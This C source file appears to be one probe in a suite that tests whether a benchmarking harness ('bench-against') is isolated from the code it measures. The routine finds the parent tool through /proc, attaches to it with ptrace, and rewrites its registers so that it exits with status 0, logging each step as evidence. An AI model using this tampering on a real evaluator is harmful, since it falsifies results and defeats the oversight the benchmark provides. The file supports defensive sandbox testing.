/*
 * family: the tool itself
 * kind:   launcher
 * idea:   traces the tool and makes it call exit(0)
 * gate:   the tool is outside of the process namespace
 */
#include "tricks.h"

static void trace_host(void)
{
	pid_t host = (pid_t)number_in(getppid(), "PPid:");
	char name[64], text[64] = "";
	snprintf(name, sizeof(name), "/proc/%d/comm", (int)host);
	FILE *f = fopen(name, "re");
	/* nothing but the tool: in a sandbox there is another parent, or none */
	if (!f || !fgets(text, sizeof(text), f) || strcmp(text, "bench-against\n") != 0) {
		evidence("does not see the tool");
		return;
	}
	fclose(f);
#if defined(__x86_64__)
	struct user_regs_struct r;
	if (ptrace(PTRACE_ATTACH, host, NULL, NULL)) {
		evidence("cannot trace the tool");
		return;
	}
	waitpid(host, NULL, __WALL);
	if (ptrace(PTRACE_GETREGS, host, NULL, &r) == 0) {
		r.rip -= 2; /* the call of the system in which it waits */
		r.rax = SYS_exit_group;
		r.orig_rax = (unsigned long long)-1;
		r.rdi = 0;
		ptrace(PTRACE_SETREGS, host, NULL, &r);
		evidence("made the tool exit");
	}
	ptrace(PTRACE_DETACH, host, NULL, NULL);
#else
	evidence("is written for another processor");
#endif
}

static void meddle(void)
{
	evidence("looks for the tool");
	usleep(300000);
	pid_t child = helper(trace_host);
	if (child > 0)
		waitpid(child, NULL, 0);
}

void attack_prepare(kernel *k)
{
	(void)k;
	static bool done;
	if (!done)
		meddle();
	done = true;
}
